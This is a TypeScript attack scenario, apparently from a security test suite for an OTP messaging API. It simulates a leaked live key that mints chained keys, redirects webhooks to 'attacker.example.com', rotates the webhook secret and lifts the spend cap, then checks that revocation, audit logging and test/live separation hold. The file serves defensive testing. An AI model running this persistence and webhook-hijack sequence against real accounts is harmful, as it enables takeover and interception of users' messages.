// A leaked live key: a chain of keys and a rotation, the webhook address and secret; then its owner revokes it.
import { randomUUID } from 'node:crypto';
import type { Attack, Figure, RunningStack } from './attack.ts';

type Answer = { status: number; data: Record<string, unknown> };

const call =
  (base: string, credential: string | undefined) =>
  async (method: string, path: string, body?: object): Promise<Answer> => {
    const answer = await fetch(base + path, {
      method,
      headers: {
        ...(credential === undefined ? {} : { authorization: `Bearer ${credential}` }),
        ...(body === undefined ? {} : { 'content-type': 'application/json' }),
      },
      ...(body === undefined ? {} : { body: JSON.stringify(body) }),
      signal: AbortSignal.timeout(10_000),
    });
    const text = await answer.text();
    const { data = {} } = text.startsWith('{')
      ? (JSON.parse(text) as { data?: Answer['data'] })
      : {};
    return { status: answer.status, data: { ...data, text } };
  };

const wait = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms));

const keys = '/v1/clients/keys';

type Made = { id: string; key: string };

/** Makes keys from keys, the last of them by rotation. */
const mint = async (api: string, leaked: string): Promise<Made[]> => {
  const made: Made[] = [];
  let key = leaked;
  for (let link = 0; link < 3; link++) {
    const { data } = await call(api, key)('POST', keys, { name: `link ${link}` });
    if (typeof data.key !== 'string') return made;
    made.push({ id: String(data.id), key: data.key });
    key = data.key;
  }
  const { data } = await call(api, leaked)('POST', `${keys}/rotate`);
  if (typeof data.key === 'string') made.push({ id: String(data.id), key: data.key });
  return made;
};

const count = async <T>(all: readonly T[], is: (one: T) => Promise<boolean>): Promise<number> =>
  (await Promise.all(all.map(is))).filter(Boolean).length;

/** What the test key reads of a live message: its phone or its id in any answer. */
const readOfLive = async (stack: RunningStack): Promise<number> => {
  const phone = '+14155550142';
  const sent = await call(stack.api, stack.keys.live)('POST', '/v1/otp/send', { phone });
  const id = String(sent.data.message_id ?? 'none');
  await wait(1_500);
  const paths = [
    '/v1/clients/otps?mode=live',
    '/v1/clients/otps/recent?limit=50',
    '/v1/clients/otps/export',
    `/v1/clients/otps/${id}/timeline`,
    '/v1/clients/transactions',
  ];
  return count(paths, async (path) => {
    const { data } = await call(stack.api, stack.keys.test)('GET', path);
    const text = String(data.text);
    return text.includes(phone) || text.includes(id);
  });
};

const figure = (what: string, value: number, most: number): Figure => ({
  what,
  value: String(value),
  bound: `at most ${most}`,
  holds: value <= most,
});

/** The acts that the owner's log names, of those that were done. */
const actions = (answer: Answer): string[] =>
  ((answer.data.items ?? []) as { action: string }[]).map(({ action }) => action);

const run = async (stack: RunningStack): Promise<Figure[]> => {
  const login = await call(stack.api, undefined)('POST', '/v1/clients/login', stack.account);
  const owner = call(stack.api, String(login.data.session_token));
  const leaked = await owner('POST', keys, { name: `leaked ${randomUUID().slice(0, 8)}` });
  const before = await owner('GET', '/v1/clients/me');
  const thief = call(stack.api, String(leaked.data.key));
  const made = await mint(stack.api, String(leaked.data.key));
  const last = call(stack.api, made[1]?.key);
  const url = 'https://attacker.example.com/hook';
  await last('PATCH', '/v1/clients/settings', { webhook_url: url });
  await last('POST', '/v1/clients/webhook-secret/rotate');
  await thief('PATCH', '/v1/clients/settings', { spend_cap_hourly: null });
  const log = await owner('GET', '/v1/clients/security/log?limit=20');
  const heard = actions(log);
  const named = heard.filter((action) => action === 'key_created').length;
  const settings = heard.filter((action) => action === 'settings_changed').length;

  const revoked = await owner('DELETE', `${keys}/${String(leaked.data.id)}`);
  await wait(1_000);
  const alive = await count(
    made,
    async ({ key }) => (await call(stack.api, key)('GET', '/v1/clients/me')).status === 200,
  );
  const listed = (revoked.data.descendants ?? []) as unknown[];
  const figures = [
    figure('descendants that work one second after the revocation', alive, 0),
    figure('descendants the revocation does not name', made.length - listed.length, 0),
    figure('keys made without an entry in the owner’s log', Math.max(0, made.length - named), 0),
    figure('changed settings without an entry in the log', Math.max(0, 2 - settings), 0),
    figure('answers in which the test key reads a live message', await readOfLive(stack), 0),
  ];
  await tidy(owner, { made, url: before.data.webhook_url });
  return figures;
};

/** Leaves the account as it was found, as far as a session may. */
const tidy = async (
  owner: ReturnType<typeof call>,
  { made, url }: { made: readonly Made[]; url: unknown },
): Promise<void> => {
  for (const { id } of made) await owner('DELETE', `${keys}/${id}`);
  const kept = typeof url === 'string' && url.startsWith('https://') ? url : null;
  await owner('PATCH', '/v1/clients/settings', { webhook_url: kept });
};

export const leakedKey: Attack = {
  name: 'leaked-key',
  about:
    'A leaked live key makes further keys, takes the webhooks and lifts the spend cap, to outlive its revocation unnoticed.',
  run,
};
